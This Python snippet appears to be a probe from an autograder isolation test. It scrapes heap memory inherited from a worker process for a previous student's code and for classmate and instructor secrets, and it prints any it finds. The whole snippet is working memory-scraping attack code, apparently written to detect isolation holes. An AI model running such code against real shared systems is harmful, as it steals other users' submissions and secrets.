# Read the classmate graded just before us out of memory this process inherited from its worker:
# freed heap chunks may still hold that submission's source. No /proc needed: the heap ends at
# sbrk(0), and write() into a pipe of our own tells a mapped page (it copies) from an unmapped one
# (EFAULT) without a crash. Whatever looks like a secret is printed. The base is the stub.
import ctypes as _ctypes
import re as _re


def _scan_heap():
    libc = _ctypes.CDLL(None, use_errno=True)
    libc.sbrk.restype = _ctypes.c_void_p
    libc.write.restype = _ctypes.c_ssize_t
    page = 4096
    top = (libc.sbrk(0) or 0) // page * page
    drain, sink = _os.pipe()
    pattern = _re.compile(rb"(classmate|instructor) secret: ([0-9a-f]{32})")
    # A line only a finished classmate's code holds (this stub has none of it). Joined as it runs:
    # the compiler would fold `a + b` into one constant, and this module's own compiled code, which
    # the child keeps, would then hold the line.
    code = b"".join([b"k_t = np.swapaxes(k, -1, -", b"2)"])
    found, pages, address, above = set(), 0, top - page, b""
    while address > 0 and pages < 131072:  # at most 512 MiB below the break
        if libc.write(sink, _ctypes.c_void_p(address), page) != page:
            break
        _os.read(drain, page)
        here = _ctypes.string_at(address, page)
        chunk, above = here + above[:64], here
        for kind, token in pattern.findall(chunk):
            found.add((kind.decode(), token.decode()))
        if code in chunk:
            found.add(("code", ""))
        address -= page
        pages += 1
    print("note: scanned %d heap pages below the break" % pages)
    for kind, token in sorted(found):
        if kind == "code":
            _hole("found a classmate's code in inherited memory")
            continue
        _hole("found the %s secret in inherited memory" % kind)
        print("%s secret %s" % (kind, token))


_scan_heap()
